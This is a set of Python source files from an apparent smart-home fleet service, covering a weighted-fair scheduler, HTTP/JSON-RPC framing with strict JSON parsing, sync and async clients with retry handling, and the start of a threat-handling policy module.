class WeightedFairQueue:
    """Virtual-time fair queue over per-tenant job streams."""

    def __init__(self) -> None:
        self._heap: list[tuple[float, int, str, object]] = []
        self._seq = itertools.count()
        self._virtual_time = 0.0
        self._last_tag: dict[str, float] = {}

    def __len__(self) -> int:
        return len(self._heap)

    def push(self, tenant: str, weight: float, job: object) -> float:
        """Tag and enqueue one job; returns its virtual finish tag."""
        tag = max(
            self._virtual_time, self._last_tag.get(tenant, 0.0)
        ) + 1.0 / max(weight, 1e-9)
        self._last_tag[tenant] = tag
        heapq.heappush(self._heap, (tag, next(self._seq), tenant, job))
        return tag

    def pop(self) -> tuple[str, object] | None:
        """The smallest-tag job, advancing virtual time; ``None`` when
        empty.  Ties break by arrival order (the seq counter), so equal
        weights degrade to round-robin, never to starvation."""
        if not self._heap:
            return None
        tag, _, tenant, job = heapq.heappop(self._heap)
        self._virtual_time = tag
        if not self._heap:
            # Idle queue: forget per-tenant history so a tenant that
            # went quiet is not owed (or charged) virtual time from a
            # previous busy period.
            self._last_tag.clear()
        return tenant, job


class FairScheduler:
    """Asyncio front of the fair queue: awaitable intake, one run loop.

    ``submit`` enqueues a zero-argument callable for a tenant and
    returns a future resolved with the callable's result (or its
    exception).  The run loop pops in fair order and executes each
    callable on ``executor`` (a single worker thread), keeping the
    event loop free to absorb intake while service code runs.
    ``on_start`` fires when a job leaves the queue — the server uses it
    to close the job's queue-phase latency window."""

    def __init__(self, executor) -> None:
        self._queue = WeightedFairQueue()
        self._executor = executor
        self._wakeup = asyncio.Event()
        self._stopped = False
        self.executed = 0

    def __len__(self) -> int:
        return len(self._queue)

    def submit(
        self,
        tenant: str,
        weight: float,
        fn: Callable[[], Any],
        on_start: Callable[[], None] | None = None,
    ) -> "asyncio.Future[Any]":
        if self._stopped:
            raise RuntimeError("scheduler is stopped")
        future: asyncio.Future = asyncio.get_running_loop().create_future()
        self._queue.push(tenant, weight, (future, fn, on_start))
        self._wakeup.set()
        return future

    async def run(self) -> None:
        """Drain jobs in fair order until :meth:`stop` and the queue
        empties.  Cancelled futures (a client that hung up) are skipped
        without executing their job."""
        loop = asyncio.get_running_loop()
        while True:
            entry = self._queue.pop()
            if entry is None:
                if self._stopped:
                    return
                self._wakeup.clear()
                await self._wakeup.wait()
                continue
            _, (future, fn, on_start) = entry
            if on_start is not None:
                on_start()
            if future.cancelled():
                continue
            try:
                result = await loop.run_in_executor(self._executor, fn)
            except Exception as exc:  # delivered, not raised here
                if not future.cancelled():
                    future.set_exception(exc)
            else:
                if not future.cancelled():
                    future.set_result(result)
            self.executed += 1

    def stop(self) -> None:
        """No further submits; the run loop exits once the queue is
        empty."""
        self._stopped = True
        self._wakeup.set()
