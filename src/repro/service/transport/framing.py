"""HTTP/1.1 + JSON-RPC 2.0 framing for the fleet server (DESIGN.md §13).

Stdlib-only by design: the server speaks a deliberately small slice of
HTTP/1.1 — ``POST`` with a mandatory ``Content-Length``, keep-alive
connections, no chunked encoding — parsed directly off the asyncio
stream.  One RPC is one JSON-RPC 2.0 envelope::

    {"jsonrpc": "2.0", "id": 7, "method": "install",
     "params": {... a wire record or plain params object ...}}

and one response either ``{"jsonrpc": "2.0", "id": 7, "result": ...}``
or ``{"jsonrpc": "2.0", "id": 7, "error": {"code": <int>, "message":
..., "data": <ServiceError.to_json()>}}`` — the ``data`` member always
carries the full typed :class:`~repro.service.errors.ServiceError`
record, so taxonomy codes survive the wire loss-free and a traceback
can never leak (there is no other error path).

Strictness the schema layer cannot see happens here: request bodies
are decoded with a duplicate-key-rejecting JSON parser (plain
``json.loads`` silently keeps the last duplicate — a smuggling vector
for anything that validates one copy and uses the other), and bodies
over the server's size cap are refused before they are read.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

from repro.service.errors import (
    InvalidRequestError,
    QuotaExceededError,
    RequestTooLargeError,
    SchemaMismatchError,
    ServiceError,
    SessionDecidedError,
    UnavailableError,
)

# Transport hard bounds (bytes).
MAX_HEADER_BYTES = 16 * 1024
DEFAULT_MAX_REQUEST_BYTES = 1024 * 1024

_REASONS = {
    200: "OK",
    400: "Bad Request",
    404: "Not Found",
    405: "Method Not Allowed",
    409: "Conflict",
    413: "Payload Too Large",
    429: "Too Many Requests",
    500: "Internal Server Error",
    503: "Service Unavailable",
}

# ServiceError taxonomy code -> (HTTP status, JSON-RPC error code).
# JSON-RPC codes live in the implementation-defined -32000..-32099
# server-error band, except the protocol-level parse/invalid ones.
ERROR_STATUS: dict[str, tuple[int, int]] = {
    "schema-mismatch": (400, -32600),
    "invalid-request": (400, -32602),
    "unknown-home": (404, -32001),
    "unknown-app": (404, -32002),
    "unknown-session": (404, -32003),
    "session-decided": (409, -32004),
    "duplicate-home": (409, -32005),
    "quota-exceeded": (429, -32010),
    "unavailable": (503, -32011),
    "request-too-large": (413, -32012),
    # Client-side only (the server never sends it); mapped for
    # completeness so the taxonomy stays total over ERROR_CODES.
    "transport-connection": (503, -32013),
    "service-error": (500, -32000),
}


def http_status_of(error: ServiceError) -> int:
    return ERROR_STATUS.get(error.code, (500, -32000))[0]


def jsonrpc_code_of(error: ServiceError) -> int:
    return ERROR_STATUS.get(error.code, (500, -32000))[1]


def _reject_duplicate_keys(pairs: list) -> dict:
    seen: dict = {}
    for key, value in pairs:
        if key in seen:
            raise ValueError(f"duplicate JSON field {key!r}")
        seen[key] = value
    return seen


def loads_strict(text: str | bytes) -> object:
    """``json.loads`` that refuses duplicated object fields."""
    return json.loads(text, object_pairs_hook=_reject_duplicate_keys)


@dataclass
class RpcRequest:
    """One decoded JSON-RPC call."""

    method: str
    params: object
    id: object = None


@dataclass
class HttpRequest:
    """One parsed HTTP request (line + headers; body read separately)."""

    method: str
    target: str
    headers: dict[str, str] = field(default_factory=dict)
    keep_alive: bool = True

    @property
    def content_length(self) -> int | None:
        raw = self.headers.get("content-length")
        if raw is None:
            return None
        try:
            length = int(raw.strip())
        except ValueError:
            return None
        return length if length >= 0 else None


class FrameError(Exception):
    """The byte stream is not a usable HTTP request.  ``error`` is the
    typed ServiceError to answer with (when answering is possible);
    ``close`` forces the connection shut because stream state is
    unknowable past the failure."""

    def __init__(
        self, error: ServiceError, status: int | None = None,
        close: bool = True,
    ) -> None:
        super().__init__(error.message)
        self.error = error
        self.status = status if status is not None else http_status_of(error)
        self.close = close


def parse_http_head(head: bytes) -> HttpRequest:
    """Parse request line + headers (everything before CRLFCRLF)."""
    try:
        text = head.decode("latin-1")
    except UnicodeDecodeError as exc:  # latin-1 cannot fail; belt+braces
        raise FrameError(
            InvalidRequestError(f"undecodable request head: {exc}")
        ) from exc
    lines = text.split("\r\n")
    parts = lines[0].split(" ")
    if len(parts) != 3 or not parts[2].startswith("HTTP/1."):
        raise FrameError(
            InvalidRequestError(f"malformed request line {lines[0]!r}")
        )
    method, target, version = parts
    headers: dict[str, str] = {}
    for line in lines[1:]:
        if not line:
            continue
        name, sep, value = line.partition(":")
        if not sep or not name.strip():
            raise FrameError(
                InvalidRequestError(f"malformed header line {line!r}")
            )
        headers[name.strip().lower()] = value.strip()
    connection = headers.get("connection", "").lower()
    keep_alive = connection != "close" and version != "HTTP/1.0"
    return HttpRequest(
        method=method, target=target, headers=headers, keep_alive=keep_alive
    )


def parse_rpc(body: bytes) -> RpcRequest:
    """Decode one JSON-RPC envelope from a request body."""
    try:
        text = body.decode("utf-8")
    except UnicodeDecodeError as exc:
        raise FrameError(
            SchemaMismatchError(f"request body is not UTF-8: {exc}"),
            close=False,
        ) from exc
    try:
        envelope = loads_strict(text)
    except ValueError as exc:
        raise FrameError(
            SchemaMismatchError(f"request body is not JSON: {exc}"),
            close=False,
        ) from exc
    if not isinstance(envelope, dict):
        raise FrameError(
            SchemaMismatchError(
                f"expected a JSON-RPC object, got "
                f"{type(envelope).__name__}"
            ),
            close=False,
        )
    if envelope.get("jsonrpc") != "2.0":
        raise FrameError(
            SchemaMismatchError(
                f"jsonrpc version {envelope.get('jsonrpc')!r} != '2.0'"
            ),
            close=False,
        )
    unknown = set(envelope) - {"jsonrpc", "id", "method", "params"}
    if unknown:
        raise FrameError(
            SchemaMismatchError(
                f"unknown JSON-RPC member(s) {sorted(unknown)!r}"
            ),
            close=False,
        )
    method = envelope.get("method")
    if not isinstance(method, str) or not method:
        raise FrameError(
            SchemaMismatchError(f"malformed method {method!r}"),
            close=False,
        )
    rpc_id = envelope.get("id")
    if rpc_id is not None and not isinstance(rpc_id, (str, int, float)):
        raise FrameError(
            SchemaMismatchError(f"malformed request id {rpc_id!r}"),
            close=False,
        )
    return RpcRequest(
        method=method, params=envelope.get("params"), id=rpc_id
    )


def encode_result(rpc_id: object, result: object) -> bytes:
    return json.dumps(
        {"jsonrpc": "2.0", "id": rpc_id, "result": result},
        separators=(",", ":"),
    ).encode("utf-8")


def encode_error(rpc_id: object, error: ServiceError) -> bytes:
    return json.dumps(
        {
            "jsonrpc": "2.0",
            "id": rpc_id,
            "error": {
                "code": jsonrpc_code_of(error),
                "message": error.message,
                "data": error.to_json(),
            },
        },
        separators=(",", ":"),
        default=str,
    ).encode("utf-8")


def http_response(
    status: int,
    body: bytes,
    keep_alive: bool = True,
    request_id: str | None = None,
    retry_after: float | None = None,
) -> bytes:
    reason = _REASONS.get(status, "Unknown")
    head = [
        f"HTTP/1.1 {status} {reason}",
        "Content-Type: application/json",
        f"Content-Length: {len(body)}",
        f"Connection: {'keep-alive' if keep_alive else 'close'}",
    ]
    if request_id is not None:
        head.append(f"X-Request-Id: {request_id}")
    if retry_after is not None:
        head.append(f"Retry-After: {max(0, int(retry_after + 0.999))}")
    return ("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + body


def decode_rpc_response(
    status: int, body: bytes
) -> tuple[object, ServiceError | None]:
    """Client side: ``(result, None)`` or ``(None, typed error)``.

    The error is rebuilt through :meth:`ServiceError.from_json`, so
    taxonomy subclasses (and preserved unknown peer codes) come back
    exactly as the server raised them."""
    envelope = loads_strict(body.decode("utf-8"))
    if not isinstance(envelope, dict):
        raise SchemaMismatchError(
            f"malformed JSON-RPC response: {envelope!r}"
        )
    if "error" in envelope:
        error = envelope["error"]
        if not isinstance(error, dict):
            raise SchemaMismatchError(f"malformed error member {error!r}")
        data = error.get("data")
        if isinstance(data, dict) and data.get("kind") == "ServiceError":
            return None, ServiceError.from_json(data)
        return None, ServiceError(
            str(error.get("message", f"HTTP {status}"))
        )
    if "result" not in envelope:
        raise SchemaMismatchError(
            "JSON-RPC response carries neither result nor error"
        )
    return envelope["result"], None


# Re-exported for the server's convenience (single import site).
__all__ = [
    "DEFAULT_MAX_REQUEST_BYTES",
    "MAX_HEADER_BYTES",
    "ERROR_STATUS",
    "FrameError",
    "HttpRequest",
    "RpcRequest",
    "decode_rpc_response",
    "encode_error",
    "encode_result",
    "http_response",
    "http_status_of",
    "jsonrpc_code_of",
    "loads_strict",
    "parse_http_head",
    "parse_rpc",
    "InvalidRequestError",
    "QuotaExceededError",
    "RequestTooLargeError",
    "SchemaMismatchError",
    "SessionDecidedError",
    "UnavailableError",
]
