"""Clients for the fleet server (DESIGN.md §13).

Two clients over the same wire protocol:

* :class:`FleetClient` — synchronous, ``http.client``-based, one
  keep-alive connection.  What tests, examples and operators use.
* :class:`AsyncFleetClient` — asyncio streams, for callers that need
  hundreds of concurrent connections in one process (the load
  benchmark drives ~200 tenants with these).

Both decode responses through :func:`decode_rpc_response`, so a server
failure comes back as the *typed* taxonomy exception the service
raised — ``except UnknownHomeError:`` works identically in-process and
across the socket.  The typed convenience methods (:meth:`install`,
:meth:`audit`, :meth:`status`, ...) re-hydrate wire records into the
frozen dataclasses of :mod:`repro.service.schemas`.
"""

from __future__ import annotations

import asyncio
import http.client
import itertools
import json
from typing import Iterable

from repro.service.errors import ServiceError
from repro.service.schemas import (
    AuditRequest,
    DecisionRequest,
    DetectionStatsRecord,
    InstallRequest,
    InstallSession,
    ServerStatusRecord,
    ThreatReport,
)
from repro.service.transport.framing import decode_rpc_response


class FleetClient:
    """Synchronous JSON-RPC client over one keep-alive connection.

    ``call`` raises the transported :class:`ServiceError` subclass on
    failure; the typed helpers return frozen wire dataclasses.  Usable
    as a context manager."""

    def __init__(
        self, host: str, port: int, timeout: float = 60.0
    ) -> None:
        self.host = host
        self.port = port
        self.timeout = timeout
        self._ids = itertools.count(1)
        self._conn: http.client.HTTPConnection | None = None

    # ------------------------------------------------------------------
    # Plumbing

    def _connection(self) -> http.client.HTTPConnection:
        if self._conn is None:
            self._conn = http.client.HTTPConnection(
                self.host, self.port, timeout=self.timeout
            )
        return self._conn

    def close(self) -> None:
        if self._conn is not None:
            self._conn.close()
            self._conn = None

    def __enter__(self) -> "FleetClient":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    def _roundtrip(self, body: bytes):
        conn = self._connection()
        conn.request(
            "POST", "/rpc", body,
            headers={"Content-Type": "application/json"},
        )
        response = conn.getresponse()
        data = response.read()
        if response.getheader("Connection", "").lower() == "close":
            self.close()
        return response.status, data

    def call(self, method: str, params: object = None) -> object:
        """One RPC; returns the result or raises the typed error."""
        body = json.dumps(
            {
                "jsonrpc": "2.0",
                "id": next(self._ids),
                "method": method,
                "params": params,
            },
            separators=(",", ":"),
        ).encode("utf-8")
        try:
            status, data = self._roundtrip(body)
        except (ConnectionError, http.client.HTTPException, OSError):
            # Server closed the keep-alive connection (drain, previous
            # Connection: close, restart): reconnect and retry once.
            self.close()
            status, data = self._roundtrip(body)
        result, error = decode_rpc_response(status, data)
        if error is not None:
            raise error
        return result

    # ------------------------------------------------------------------
    # Typed surface

    def create_home(
        self, home_id: str, policy: str | None = None
    ) -> None:
        params: dict = {"home_id": home_id}
        if policy is not None:
            params["policy"] = policy
        self.call("create_home", params)

    def register_device(
        self, home_id: str, label: str, type_name: str
    ) -> dict:
        return self.call(
            "register_device",
            {"home_id": home_id, "label": label, "type": type_name},
        )

    def install(self, request: InstallRequest) -> InstallSession:
        return InstallSession.from_json(
            self.call("install", request.to_json())
        )

    def decide(self, request: DecisionRequest) -> InstallSession:
        return InstallSession.from_json(
            self.call("decide", request.to_json())
        )

    def audit(self, request: AuditRequest) -> list[ThreatReport]:
        reports = self.call("audit", request.to_json())
        return [
            ThreatReport.from_json(report)
            for report in reports["reports"]
        ]

    def session(self, home_id: str, session_id: str) -> InstallSession:
        return InstallSession.from_json(
            self.call(
                "session",
                {"home_id": home_id, "session_id": session_id},
            )
        )

    def sessions(
        self, home_id: str | None = None
    ) -> list[InstallSession]:
        params = {} if home_id is None else {"home_id": home_id}
        return [
            InstallSession.from_json(session)
            for session in self.call("sessions", params)["sessions"]
        ]

    def installed_apps(self, home_id: str) -> list[str]:
        return list(
            self.call("installed_apps", {"home_id": home_id})["apps"]
        )

    def stats(self, home_id: str) -> DetectionStatsRecord:
        return DetectionStatsRecord.from_json(
            self.call("stats", {"home_id": home_id})
        )

    def status(self) -> ServerStatusRecord:
        return ServerStatusRecord.from_json(self.call("status"))

    def echo(self, record) -> dict:
        """Round-trip any wire record (dataclass instance or raw JSON
        object) through the server's strict decoder."""
        payload = record.to_json() if hasattr(record, "to_json") else record
        return self.call("echo", payload)


class AsyncFleetClient:
    """Asyncio JSON-RPC client: one connection, sequential calls.

    Built for fan-out — the load benchmark opens one per simulated
    tenant, so hundreds of concurrent connections fit in one process.
    ``call`` returns ``(result, error)`` instead of raising: under
    deliberate quota pressure, rejections are data, not exceptions."""

    def __init__(
        self, host: str, port: int, timeout: float = 60.0
    ) -> None:
        self.host = host
        self.port = port
        self.timeout = timeout
        self._ids = itertools.count(1)
        self._reader: asyncio.StreamReader | None = None
        self._writer: asyncio.StreamWriter | None = None

    async def connect(self) -> None:
        self._reader, self._writer = await asyncio.open_connection(
            self.host, self.port
        )

    async def close(self) -> None:
        if self._writer is not None:
            self._writer.close()
            try:
                await self._writer.wait_closed()
            except (ConnectionError, OSError):
                pass
            self._reader = self._writer = None

    async def __aenter__(self) -> "AsyncFleetClient":
        await self.connect()
        return self

    async def __aexit__(self, *exc_info) -> None:
        await self.close()

    async def call(
        self, method: str, params: object = None
    ) -> tuple[object, ServiceError | None]:
        if self._writer is None:
            await self.connect()
        assert self._reader is not None and self._writer is not None
        body = json.dumps(
            {
                "jsonrpc": "2.0",
                "id": next(self._ids),
                "method": method,
                "params": params,
            },
            separators=(",", ":"),
        ).encode("utf-8")
        head = (
            f"POST /rpc HTTP/1.1\r\n"
            f"Host: {self.host}:{self.port}\r\n"
            f"Content-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\n"
            f"\r\n"
        ).encode("latin-1")
        self._writer.write(head + body)
        await self._writer.drain()
        status, response = await asyncio.wait_for(
            self._read_response(), self.timeout
        )
        return decode_rpc_response(status, response)

    async def _read_response(self) -> tuple[int, bytes]:
        assert self._reader is not None
        head = await self._reader.readuntil(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        status = int(lines[0].split(" ", 2)[1])
        length = 0
        close = False
        for line in lines[1:]:
            name, _, value = line.partition(":")
            if name.strip().lower() == "content-length":
                length = int(value.strip())
            elif (
                name.strip().lower() == "connection"
                and value.strip().lower() == "close"
            ):
                close = True
        body = await self._reader.readexactly(length) if length else b""
        if close:
            await self.close()
        return status, body


async def gather_calls(
    clients: Iterable[AsyncFleetClient],
    method: str,
    params_of,
) -> list[tuple[object, ServiceError | None]]:
    """Fire ``method`` once per client concurrently; ``params_of`` maps
    each client index to its params.  Bench helper."""
    return await asyncio.gather(
        *(
            client.call(method, params_of(index))
            for index, client in enumerate(clients)
        )
    )
