"""Clients for the fleet server (DESIGN.md §13).

Two clients over the same wire protocol:

* :class:`FleetClient` — synchronous, ``http.client``-based, one
  keep-alive connection.  What tests, examples and operators use.
* :class:`AsyncFleetClient` — asyncio streams, for callers that need
  hundreds of concurrent connections in one process (the load
  benchmark drives ~200 tenants with these).

Both decode responses through :func:`decode_rpc_response`, so a server
failure comes back as the *typed* taxonomy exception the service
raised — ``except UnknownHomeError:`` works identically in-process and
across the socket.  The typed convenience methods (:meth:`install`,
:meth:`audit`, :meth:`status`, ...) re-hydrate wire records into the
frozen dataclasses of :mod:`repro.service.schemas`.

Fault tolerance (DESIGN.md §15): connection failures (refused, reset,
timed out) surface as the typed, retryable
:class:`~repro.service.errors.TransportConnectionError` instead of raw
``ConnectionError`` / ``socket.timeout``, and both clients optionally
take a :class:`~repro.resilience.RetryPolicy` that automatically
retries the *retryable* codes (``unavailable``,
``transport-connection``) with bounded, deterministically jittered
backoff.  Retries are opt-in: with ``retry=None`` every failure is
raised (or returned) on first occurrence, exactly as before.  Blind
re-sends are safe for this protocol's mutating calls too — install
sessions are one-time-keyed and decisions are one-shot — but a caller
wiring retries around bespoke non-idempotent methods should think
first.
"""

from __future__ import annotations

import asyncio
import http.client
import itertools
import json
import time
from typing import Iterable

from repro.resilience import RetryPolicy
from repro.service.errors import (
    RETRYABLE_CODES,
    ServiceError,
    TransportConnectionError,
)
from repro.service.schemas import (
    AuditRequest,
    DecisionRequest,
    DetectionStatsRecord,
    InstallRequest,
    InstallSession,
    MonitorEventRequest,
    ObservationRecord,
    ServerStatusRecord,
    ThreatReport,
)
from repro.service.transport.framing import decode_rpc_response


class FleetClient:
    """Synchronous JSON-RPC client over one keep-alive connection.

    ``call`` raises the transported :class:`ServiceError` subclass on
    failure — including :class:`TransportConnectionError` when the
    server cannot be reached at all; the typed helpers return frozen
    wire dataclasses.  Usable as a context manager.

    ``retry`` (optional) enables automatic retries of retryable codes;
    ``sleep`` is injectable so tests can assert backoff without
    waiting."""

    def __init__(
        self,
        host: str,
        port: int,
        timeout: float = 60.0,
        retry: RetryPolicy | None = None,
        sleep=time.sleep,
    ) -> None:
        self.host = host
        self.port = port
        self.timeout = timeout
        self.retry = retry
        self._sleep = sleep
        self._ids = itertools.count(1)
        self._conn: http.client.HTTPConnection | None = None

    # ------------------------------------------------------------------
    # Plumbing

    def _connection(self) -> http.client.HTTPConnection:
        if self._conn is None:
            self._conn = http.client.HTTPConnection(
                self.host, self.port, timeout=self.timeout
            )
        return self._conn

    def close(self) -> None:
        if self._conn is not None:
            self._conn.close()
            self._conn = None

    def __enter__(self) -> "FleetClient":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    def _roundtrip(self, body: bytes):
        conn = self._connection()
        conn.request(
            "POST", "/rpc", body,
            headers={"Content-Type": "application/json"},
        )
        response = conn.getresponse()
        data = response.read()
        if response.getheader("Connection", "").lower() == "close":
            self.close()
        return response.status, data

    def _roundtrip_reconnect(self, body: bytes):
        try:
            return self._roundtrip(body)
        except (ConnectionError, http.client.HTTPException, OSError):
            # Server closed the keep-alive connection (drain, previous
            # Connection: close, restart): reconnect and retry once.
            self.close()
            return self._roundtrip(body)

    def call(self, method: str, params: object = None) -> object:
        """One RPC; returns the result or raises the typed error.

        A connection that cannot be (re)established raises
        :class:`TransportConnectionError`; with a ``retry`` policy set,
        retryable failures back off and resend before raising."""
        body = json.dumps(
            {
                "jsonrpc": "2.0",
                "id": next(self._ids),
                "method": method,
                "params": params,
            },
            separators=(",", ":"),
        ).encode("utf-8")
        policy = self.retry
        attempts = policy.attempts if policy is not None else 1
        for attempt in range(1, attempts + 1):
            try:
                status, data = self._roundtrip_reconnect(body)
            except (
                ConnectionError,
                http.client.HTTPException,
                OSError,
            ) as exc:
                self.close()
                error: ServiceError = TransportConnectionError(
                    f"fleet call {method!r} to "
                    f"{self.host}:{self.port} failed: "
                    f"{type(exc).__name__}: {exc}",
                    host=self.host,
                    port=self.port,
                    method=method,
                )
                error.__cause__ = exc
            else:
                result, error = decode_rpc_response(status, data)
                if error is None:
                    return result
            if (
                policy is not None
                and attempt < attempts
                and error.code in RETRYABLE_CODES
            ):
                self._sleep(policy.delay(attempt))
                continue
            raise error
        raise AssertionError("unreachable")  # pragma: no cover

    # ------------------------------------------------------------------
    # Typed surface

    def create_home(
        self, home_id: str, policy: str | None = None
    ) -> None:
        params: dict = {"home_id": home_id}
        if policy is not None:
            params["policy"] = policy
        self.call("create_home", params)

    def register_device(
        self, home_id: str, label: str, type_name: str
    ) -> dict:
        return self.call(
            "register_device",
            {"home_id": home_id, "label": label, "type": type_name},
        )

    def install(self, request: InstallRequest) -> InstallSession:
        return InstallSession.from_json(
            self.call("install", request.to_json())
        )

    def decide(self, request: DecisionRequest) -> InstallSession:
        return InstallSession.from_json(
            self.call("decide", request.to_json())
        )

    def audit(self, request: AuditRequest) -> list[ThreatReport]:
        reports = self.call("audit", request.to_json())
        return [
            ThreatReport.from_json(report)
            for report in reports["reports"]
        ]

    def session(self, home_id: str, session_id: str) -> InstallSession:
        return InstallSession.from_json(
            self.call(
                "session",
                {"home_id": home_id, "session_id": session_id},
            )
        )

    def sessions(
        self, home_id: str | None = None
    ) -> list[InstallSession]:
        params = {} if home_id is None else {"home_id": home_id}
        return [
            InstallSession.from_json(session)
            for session in self.call("sessions", params)["sessions"]
        ]

    def installed_apps(self, home_id: str) -> list[str]:
        return list(
            self.call("installed_apps", {"home_id": home_id})["apps"]
        )

    def stats(self, home_id: str) -> DetectionStatsRecord:
        return DetectionStatsRecord.from_json(
            self.call("stats", {"home_id": home_id})
        )

    def ingest_events(
        self, request: MonitorEventRequest
    ) -> list[ObservationRecord]:
        """Stream one batch of device events into the home's runtime
        monitor.  Retry-safe: set ``batch_id`` on the request and a
        resent batch returns the original observations instead of
        double-counting (the server's exactly-once contract)."""
        response = self.call("ingest_events", request.to_json())
        return [
            ObservationRecord.from_json(record)
            for record in response["observations"]
        ]

    def observations(self, home_id: str) -> list[ObservationRecord]:
        """One home's full persisted observation ledger."""
        return [
            ObservationRecord.from_json(record)
            for record in self.call(
                "observations", {"home_id": home_id}
            )["observations"]
        ]

    def status(self) -> ServerStatusRecord:
        return ServerStatusRecord.from_json(self.call("status"))

    def echo(self, record) -> dict:
        """Round-trip any wire record (dataclass instance or raw JSON
        object) through the server's strict decoder."""
        payload = record.to_json() if hasattr(record, "to_json") else record
        return self.call("echo", payload)


class AsyncFleetClient:
    """Asyncio JSON-RPC client: one connection, sequential calls.

    Built for fan-out — the load benchmark opens one per simulated
    tenant, so hundreds of concurrent connections fit in one process.
    ``call`` returns ``(result, error)`` instead of raising: under
    deliberate quota pressure, rejections are data, not exceptions —
    and so are connection failures, which come back as a
    :class:`TransportConnectionError` in the error slot.  An optional
    ``retry`` policy resends retryable failures (with
    ``asyncio.sleep`` backoff) before reporting them."""

    def __init__(
        self,
        host: str,
        port: int,
        timeout: float = 60.0,
        retry: RetryPolicy | None = None,
    ) -> None:
        self.host = host
        self.port = port
        self.timeout = timeout
        self.retry = retry
        self._ids = itertools.count(1)
        self._reader: asyncio.StreamReader | None = None
        self._writer: asyncio.StreamWriter | None = None

    async def connect(self) -> None:
        self._reader, self._writer = await asyncio.open_connection(
            self.host, self.port
        )

    async def close(self) -> None:
        if self._writer is not None:
            self._writer.close()
            try:
                await self._writer.wait_closed()
            except (ConnectionError, OSError):
                pass
            self._reader = self._writer = None

    async def __aenter__(self) -> "AsyncFleetClient":
        await self.connect()
        return self

    async def __aexit__(self, *exc_info) -> None:
        await self.close()

    async def call(
        self, method: str, params: object = None
    ) -> tuple[object, ServiceError | None]:
        policy = self.retry
        attempts = policy.attempts if policy is not None else 1
        for attempt in range(1, attempts + 1):
            try:
                result, error = await self._call_once(method, params)
            except (OSError, EOFError, asyncio.IncompleteReadError) as exc:
                await self.close()
                error = TransportConnectionError(
                    f"fleet call {method!r} to "
                    f"{self.host}:{self.port} failed: "
                    f"{type(exc).__name__}: {exc}",
                    host=self.host,
                    port=self.port,
                    method=method,
                )
                error.__cause__ = exc
                result = None
            if (
                error is not None
                and policy is not None
                and attempt < attempts
                and error.code in RETRYABLE_CODES
            ):
                await asyncio.sleep(policy.delay(attempt))
                continue
            return result, error
        raise AssertionError("unreachable")  # pragma: no cover

    async def _call_once(
        self, method: str, params: object = None
    ) -> tuple[object, ServiceError | None]:
        if self._writer is None:
            await self.connect()
        assert self._reader is not None and self._writer is not None
        body = json.dumps(
            {
                "jsonrpc": "2.0",
                "id": next(self._ids),
                "method": method,
                "params": params,
            },
            separators=(",", ":"),
        ).encode("utf-8")
        head = (
            f"POST /rpc HTTP/1.1\r\n"
            f"Host: {self.host}:{self.port}\r\n"
            f"Content-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\n"
            f"\r\n"
        ).encode("latin-1")
        self._writer.write(head + body)
        await self._writer.drain()
        status, response = await asyncio.wait_for(
            self._read_response(), self.timeout
        )
        return decode_rpc_response(status, response)

    async def _read_response(self) -> tuple[int, bytes]:
        assert self._reader is not None
        head = await self._reader.readuntil(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        status = int(lines[0].split(" ", 2)[1])
        length = 0
        close = False
        for line in lines[1:]:
            name, _, value = line.partition(":")
            if name.strip().lower() == "content-length":
                length = int(value.strip())
            elif (
                name.strip().lower() == "connection"
                and value.strip().lower() == "close"
            ):
                close = True
        body = await self._reader.readexactly(length) if length else b""
        if close:
            await self.close()
        return status, body


async def gather_calls(
    clients: Iterable[AsyncFleetClient],
    method: str,
    params_of,
) -> list[tuple[object, ServiceError | None]]:
    """Fire ``method`` once per client concurrently; ``params_of`` maps
    each client index to its params.  Bench helper."""
    return await asyncio.gather(
        *(
            client.call(method, params_of(index))
            for index, client in enumerate(clients)
        )
    )
