"""Async fleet transport: a JSON-RPC server over the frozen wire
schemas, with per-tenant quotas, admission control and weighted-fair
scheduling (DESIGN.md §13).

The package splits along the request path:

* :mod:`.framing` — HTTP/1.1 + JSON-RPC 2.0 byte handling, the
  taxonomy-code ↔ HTTP-status mapping, strict (duplicate-key-
  rejecting) JSON decode;
* :mod:`.quota` — token-bucket rate quotas and max-inflight admission
  control per tenant;
* :mod:`.scheduler` — weighted-fair ordering of admitted work onto the
  one shared solver dispatcher;
* :mod:`.server` — :class:`FleetServer` (the asyncio loop composing
  the above) and :func:`serve_background` for synchronous callers;
* :mod:`.client` — :class:`FleetClient` (sync) and
  :class:`AsyncFleetClient`, both raising/returning typed
  :class:`~repro.service.errors.ServiceError` records rebuilt from the
  wire.
"""

from repro.service.transport.client import AsyncFleetClient, FleetClient
from repro.service.transport.framing import (
    DEFAULT_MAX_REQUEST_BYTES,
    ERROR_STATUS,
    MAX_HEADER_BYTES,
    decode_rpc_response,
    http_status_of,
    jsonrpc_code_of,
)
from repro.service.transport.quota import (
    AdmissionController,
    TenantQuota,
    TokenBucket,
)
from repro.service.transport.scheduler import (
    FairScheduler,
    WeightedFairQueue,
)
from repro.service.transport.server import (
    BackgroundServer,
    FleetServer,
    serve_background,
)

__all__ = [
    "AdmissionController",
    "AsyncFleetClient",
    "BackgroundServer",
    "DEFAULT_MAX_REQUEST_BYTES",
    "ERROR_STATUS",
    "FairScheduler",
    "FleetClient",
    "FleetServer",
    "MAX_HEADER_BYTES",
    "TenantQuota",
    "TokenBucket",
    "WeightedFairQueue",
    "decode_rpc_response",
    "http_status_of",
    "jsonrpc_code_of",
    "serve_background",
]
