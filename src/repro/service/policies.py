"""Pluggable threat-handling policies (paper §VIII-D.1, DESIGN.md §11).

The paper's *Handling* pillar is a one-time interactive decision: the
companion app shows the review screen and the user picks keep /
reconfigure / delete.  A multi-tenant service cannot assume a human in
the loop for every install — fleet controllers auto-reject risky apps,
kiosk deployments keep everything below a severity line, and so on
(the conflict-*resolution* strategies surveyed in Huang et al. 2023).

A :class:`HandlingPolicy` decides what happens right after detection:

* return an :class:`~repro.frontend.app.InstallDecision` to handle the
  threat automatically (the verdict is applied immediately and the
  install session completes as ``decided`` with ``decided_by`` set to
  the policy's name — that provenance persists in the store's frontend
  blob alongside the user's own decisions);
* return ``None`` to defer — the session stays ``pending`` until a
